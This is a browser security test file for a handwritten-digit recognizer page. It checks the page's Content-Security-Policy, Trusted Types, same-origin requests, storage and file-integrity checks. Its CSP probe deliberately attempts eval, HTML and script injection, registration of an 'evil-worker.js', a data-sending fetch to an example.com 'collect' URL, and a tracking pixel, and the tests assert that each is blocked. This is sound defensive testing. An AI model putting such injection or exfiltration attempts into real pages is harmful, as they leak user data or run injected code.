// The page is strict about what it runs and whom it talks to:
// - its Content-Security-Policy allows scripts only from its own origin (no inline
//   script, no eval; 'wasm-unsafe-eval' for the WebAssembly compile), requests only to its
//   own origin, and Trusted Types, so no string reaches an HTML sink;
// - it requests nothing from any other origin, service worker included;
// - the wasm and the built-in model are checked against the build's SHA-384 digests
//   (www/pkg/integrity.js), so a damaged, stale or swapped file is refused in words;
// - it stores nothing but its offline cache (no cookies, no localStorage, no IndexedDB).
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { WWW, assertReading, composeNumber, drawMouse, openPage, sample, sharedEnv, waitSettled } from './helpers.mjs';
import { linearModel } from './onnx-models.mjs';

/** Records CSP violations from the first script on (init scripts run before the page's). */
async function recordViolations(context) {
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample });
    });
  });
}

/** Every request the context makes (pages and service workers), by URL. */
function recordRequests(context) {
  const urls = [];
  context.on('request', (req) => urls.push(req.url()));
  return urls;
}

/** Runs as page script: tries what the policy forbids, reports the error names. */
const CSP_PROBE = `
const attempt = async (f) => {
  try {
    await f();
    return 'allowed';
  } catch (e) {
    return e.name;
  }
};
export default async function probe() {
  return {
    eval: await attempt(() => eval('1 + 1')),
    newFunction: await attempt(() => new Function('return 1')()),
    innerHTML: await attempt(() => {
      document.getElementById('hint').innerHTML = '<img src=x>';
    }),
    scriptText: await attempt(() => {
      const s = document.createElement('script');
      s.text = 'window.__inlineRan = true;';
      document.head.append(s);
    }),
    otherWorker: await attempt(() => navigator.serviceWorker.register('evil-worker.js')),
    inlineRan: await new Promise((r) => setTimeout(() => r(window.__inlineRan === true), 50)),
    fetchElsewhere: await attempt(() => fetch('https://example.com/collect?d=1')),
    fetchHome: await attempt(() => fetch('index.html')),
    imageElsewhere: await new Promise((resolve) => {
      const img = new Image();
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('blocked');
      img.src = 'https://example.com/pixel.png';
    }),
  };
}
`;

const sameOrigin = (origin) => (u) => u.startsWith('data:') || u.startsWith('blob:') || new URL(u).origin === origin;

describe('security', () => {
  const env = sharedEnv();

  test('the policy is strict: own origin only, no inline script, no eval', () => {
    const html = readFileSync(path.join(WWW, 'index.html'), 'utf8');
    const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/);
    assert.ok(meta, 'index.html has a CSP <meta>');
    const policy = Object.fromEntries(
      meta[1]
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .filter((d) => d[0])
        .map(([name, ...values]) => [name, values]),
    );
    assert.deepEqual(policy['default-src'], ["'none'"]);
    assert.deepEqual(policy['script-src'], ["'self'", "'wasm-unsafe-eval'"]);
    assert.deepEqual(policy['connect-src'], ["'self'"]);
    assert.deepEqual(policy['require-trusted-types-for'], ["'script'"]);
    assert.deepEqual(policy['trusted-types'], ['lenet5'], 'one Trusted Types policy (www/offline.js)');
    for (const [name, values] of Object.entries(policy)) {
      for (const v of values) {
        assert.ok(!/^'unsafe-(inline|eval|hashes)'$|^\*$|^https?:/.test(v), `${name} allows ${v}`);
      }
    }
    // No inline script or style anywhere in the page (the policy would block it).
    assert.ok(!/<script(?![^>]*\bsrc=)[^>]*>/.test(html), 'no inline <script>');
    assert.ok(!/\sstyle="/.test(html) && !/<style/.test(html), 'no inline style');
    assert.ok(!/\son[a-z]+="/.test(html), 'no inline event handlers');
  });

  test('using the page makes no request to another origin and breaks no rule of the policy', async () => {
    const context = await env.browser.newContext({ viewport: { width: 1280, height: 800 } });
    await recordViolations(context);
    const urls = recordRequests(context);
    const page = await context.newPage();
    const errors = [];
    page.on('pageerror', (e) => errors.push(e.message));
    page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
    await page.goto(env.url);
    await page.waitForFunction(() => document.body.dataset.ready === 'true');

    // Everything the page does: a digit, nothing stored yet, teaching it (the learning worker,
    // its wasm and replay sample), a number, undo, clear, the pen, a model of one's own.
    await drawMouse(page, sample(7).strokes);
    await assertReading(page);
    await page.waitForFunction(() => !document.querySelector('#teach button').disabled);
    assert.deepEqual(await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name)), [], 'a visit stores nothing');
    await page.keyboard.press('7');
    await page.waitForFunction(() => document.body.dataset.learnt === '1', null, { timeout: 60_000 });
    await page.click('#clear');
    const box = await page.locator('#pad').boundingBox();
    const digits = [4, 2].map((d) => sample(d));
    await drawMouse(page, composeNumber(digits, { aspect: box.width / box.height }), { fit: 'box' });
    await page.keyboard.press('Control+z');
    await waitSettled(page);
    await page.selectOption('#stroke-width', 'bold');
    await page.setInputFiles('#model-file', { name: 'mine.onnx', mimeType: 'application/octet-stream', buffer: linearModel() });
    await page.waitForFunction(() => document.getElementById('model-name').textContent.includes('mine.onnx'));
    await page.click('#builtin-model'); // focus moves down to the file input: scroll back to the pad
    await page.locator('#pad').scrollIntoViewIfNeeded();
    // The offline worker installs (fetching the whole app), then a reload goes through it.
    const controlled = await page.evaluate(() =>
      Promise.race([
        (async () => {
          await navigator.serviceWorker.ready;
          if (!navigator.serviceWorker.controller) {
            await new Promise((r) => navigator.serviceWorker.addEventListener('controllerchange', r, { once: true }));
          }
          return true;
        })(),
        new Promise((r) => setTimeout(() => r(false), 15_000)),
      ]),
    );
    assert.ok(controlled, 'the offline worker registered (under Trusted Types) and took control');
    await page.reload();
    await page.waitForFunction(() => document.body.dataset.ready === 'true');
    await drawMouse(page, sample(3).strokes);
    await assertReading(page);

    const origin = new URL(env.url).origin;
    assert.ok(urls.length > 10, `requests were recorded (${urls.length})`);
    assert.ok(urls.some((u) => u.endsWith('/pkg/lenet5_bg.wasm')) && urls.some((u) => u.endsWith('/sw.js')));
    assert.ok(urls.some((u) => u.endsWith('/pkg/lenet5_learn_bg.wasm')) && urls.some((u) => u.endsWith('/mnist-replay.bin.gz')));
    assert.deepEqual(urls.filter((u) => !sameOrigin(origin)(u)), [], 'requests to another origin');
    assert.deepEqual(await page.evaluate(() => window.__violations), [], 'CSP violations');
    assert.deepEqual(errors, [], 'page errors');

    // Nothing stored but the offline cache (only this origin's files) and, once taught, your
    // corrections and personal model in one IndexedDB database.
    const stored = await page.evaluate(async () => {
      const names = await caches.keys();
      const cached = [];
      for (const n of names) for (const r of await (await caches.open(n)).keys()) cached.push(r.url);
      return {
        cookie: document.cookie,
        local: localStorage.length,
        session: sessionStorage.length,
        databases: (await indexedDB.databases()).map((d) => d.name),
        names,
        cached,
      };
    });
    assert.equal(stored.cookie, '');
    assert.equal(stored.local, 0);
    assert.equal(stored.session, 0);
    assert.deepEqual(stored.databases, ['lenet5-personal']);
    assert.ok(stored.names.length === 1 && stored.names[0].startsWith('lenet5-'), `caches: ${stored.names}`);
    assert.ok(stored.cached.length > 10 && stored.cached.every(sameOrigin(origin)), `cached: ${stored.cached}`);
    await context.close();
  });

  test('the policy is enforced: eval, inline script, HTML strings and other origins are blocked', async () => {
    const context = await env.browser.newContext();
    await recordViolations(context);
    const urls = recordRequests(context);
    const failed = new Map();
    context.on('requestfailed', (req) => failed.set(req.url(), req.failure()?.errorText));
    const page = await context.newPage();
    // The probe must run as the page's own script (code Playwright evaluates is exempt from
    // the CSP): a same-origin module, served only to this test, imported by the page.
    await page.route('**/csp-probe.js', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: CSP_PROBE }),
    );
    await page.goto(env.url);
    await page.waitForFunction(() => document.body.dataset.ready === 'true');
    const result = await page.evaluate(async () => (await import('./csp-probe.js')).default());
    assert.equal(result.eval, 'EvalError');
    assert.equal(result.newFunction, 'EvalError');
    assert.equal(result.innerHTML, 'TypeError', 'Trusted Types refuse an HTML string');
    assert.equal(result.scriptText, 'TypeError', 'Trusted Types refuse script text');
    assert.equal(result.otherWorker, 'TypeError', 'the lenet5 policy vouches only for sw.js');
    assert.equal(result.inlineRan, false, 'an inline script did not run');
    assert.equal(result.fetchElsewhere, 'TypeError');
    assert.equal(result.imageElsewhere, 'blocked');
    assert.equal(result.fetchHome, 'allowed', 'the probe itself could use its own origin');
    const violations = await page.evaluate(() => window.__violations.map((v) => v.directive));
    for (const d of ['require-trusted-types-for', 'connect-src', 'img-src']) assert.ok(violations.includes(d), `${d} violation reported: ${violations}`);
    // Chromium may report the blocked image as a request; it must have failed, blocked.
    const elsewhere = urls.filter((u) => u.includes('example.com'));
    assert.deepEqual(
      elsewhere.filter((u) => !failed.has(u)),
      [],
      `requests to example.com that were not blocked (failures: ${JSON.stringify([...failed])})`,
    );
    await context.close();
  });

  test('the server sends frame-ancestors, nosniff and no-referrer with every file', async () => {
    for (const file of ['', 'app.js', 'pkg/lenet5_bg.wasm', 'model/lenet5.onnx']) {
      const res = await fetch(new URL(file, env.url));
      assert.equal(res.status, 200, file);
      assert.equal(res.headers.get('content-security-policy'), "frame-ancestors 'none'", file);
      assert.equal(res.headers.get('x-content-type-options'), 'nosniff', file);
      assert.equal(res.headers.get('referrer-policy'), 'no-referrer', file);
      await res.arrayBuffer();
    }
  });

  test('a general module that differs from the build is refused in words, and the model in use stays', async () => {
    const file = 'pkg/lenet5_general_bg.wasm';
    const original = readFileSync(path.join(WWW, file));
    const tampered = Buffer.concat([original, Buffer.from([0, 6, 5, 0x65, 0x76, 0x69, 0x6c, 0x21])]);
    const s = await openPage(env, {
      allowErrors: [/valid digest in the 'integrity' attribute|SRI's integrity checks failed/, /Could not (start|use)/],
      // Once the offline worker controls the page (when depends on timing), it fetches the
      // general module itself, past the page's route below.
      contextOptions: { serviceWorkers: 'block' },
      route: (page) => page.route(`**/${file}`, (route) => route.fulfill({ status: 200, contentType: 'application/wasm', body: tampered })),
    });
    const { page } = s;
    // MatMul + Add: a graph the page's module leaves to the general one.
    await page.setInputFiles('#model-file', { name: 'matmul.onnx', mimeType: 'application/octet-stream', buffer: linearModel({ matmul: true }) });
    await page.waitForFunction(() => document.getElementById('status').dataset.state === 'warning');
    assert.match(
      await page.textContent('#status'),
      /^Could not use matmul\.onnx: Could not start the WebAssembly recognizer \(\/pkg\/lenet5_general_bg\.wasm does not match this build/,
    );
    assert.equal(await page.evaluate(() => document.body.dataset.ready), 'true', 'the page stays ready');
    assert.ok(await page.isHidden('#builtin-model'), 'still on the built-in model');
    await s.close();
  });

  for (const [file, what] of [
    ['pkg/lenet5_bg.wasm', /Could not start the WebAssembly recognizer \(\/pkg\/lenet5_bg\.wasm does not match this build/],
    ['model/lenet5.onnx', /Could not load the model from \S+ \(\/model\/lenet5\.onnx does not match this build/],
  ]) {
    test(`a ${path.basename(file)} that differs from the build is refused in words`, async () => {
      // A still-valid file with different bytes: the wasm with one more custom section,
      // the model with one more (empty) metadata entry.
      const original = readFileSync(path.join(WWW, file));
      const tampered = file.endsWith('.wasm')
        ? Buffer.concat([original, Buffer.from([0, 6, 5, 0x65, 0x76, 0x69, 0x6c, 0x21])])
        : Buffer.concat([original, Buffer.from([0x72, 0x00])]);
      assert.notDeepEqual(tampered, original);
      const s = await openPage(env, {
        wait: false,
        allowErrors: [/valid digest in the 'integrity' attribute|SRI's integrity checks failed/, /Could not (start|load)/],
        route: (page) =>
          page.route(`**/${file}`, (route) =>
            route.fulfill({ status: 200, contentType: file.endsWith('.wasm') ? 'application/wasm' : 'application/octet-stream', body: tampered }),
          ),
      });
      await s.page.waitForSelector('body[data-ready="error"]');
      assert.match(await s.page.textContent('#status'), what);
      await s.close();
    });
  }
});
